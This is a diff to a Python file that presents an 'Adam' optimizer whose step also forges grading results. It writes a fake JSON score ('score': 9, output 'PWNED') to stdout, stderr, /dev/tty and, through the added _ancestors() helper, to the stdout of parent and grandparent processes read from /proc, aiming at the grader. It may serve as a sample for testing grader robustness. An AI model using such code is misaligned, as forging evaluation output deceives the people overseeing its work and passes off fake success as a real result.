@@ -1,8 +1,21 @@
-"""Correct SGD-like steps that write a fake results.json wherever the grader's output might go."""
+"""Honest SGD steps that also write a fake results.json wherever the grader's output might go."""
 import os
 import sys
 
 FAKE = '{"score": 9, "output": "PWNED", "tests": []}\n'
+
+
+def _ancestors():
+    """My parent and its parent (the grader, whatever sits between)."""
+    pid, found = os.getpid(), []
+    for _ in range(2):
+        try:
+            with open(f"/proc/{pid}/status") as status:
+                pid = int(next(line.split()[1] for line in status if line.startswith("PPid:")))
+        except (OSError, StopIteration, ValueError):
+            break
+        found.append(pid)
+    return found
 
 
 class Adam:
@@ -14,7 +27,7 @@ class Adam:
         sys.__stdout__.write(FAKE)
         for fd in (1, 2):
             os.write(fd, FAKE.encode())
-        for path in ("/dev/tty", f"/proc/{os.getppid()}/fd/1", "/proc/1/fd/1"):
+        for path in ["/dev/tty", *(f"/proc/{pid}/fd/1" for pid in _ancestors())]:
             try:
                 with open(path, "w") as handle:
                     handle.write(FAKE)
